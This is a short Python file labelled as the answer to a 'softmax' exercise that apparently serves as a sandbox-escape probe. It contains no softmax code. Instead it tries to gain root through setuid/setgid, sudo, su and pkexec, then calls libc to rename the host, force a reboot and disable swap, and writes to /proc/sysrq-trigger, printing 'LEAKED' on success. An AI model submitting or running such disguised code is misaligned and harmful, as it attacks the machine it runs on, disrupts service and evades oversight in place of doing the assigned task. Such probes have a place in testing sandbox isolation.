"""Tries to become the administrator, by number and by programs that may."""
# exercise: softmax
# where: answer

import ctypes
import os
import subprocess

for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try:
        change()
    except OSError:
        pass
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"]):
    try:
        subprocess.run(
            command, stdin=subprocess.DEVNULL, capture_output=True, timeout=1
        )
    except (OSError, subprocess.SubprocessError):
        pass
libc = ctypes.CDLL(None, use_errno=True)
libc.sethostname(b"attack-was-here", 15)
libc.reboot(0x01234567)
libc.swapoff(b"/dev/vda2")
try:
    open("/proc/sysrq-trigger", "w").write("")
    open("/proc/sys/kernel/hostname", "w").write("attack-was-here")
    print("LEAKED: system settings can be written")
except OSError:
    pass
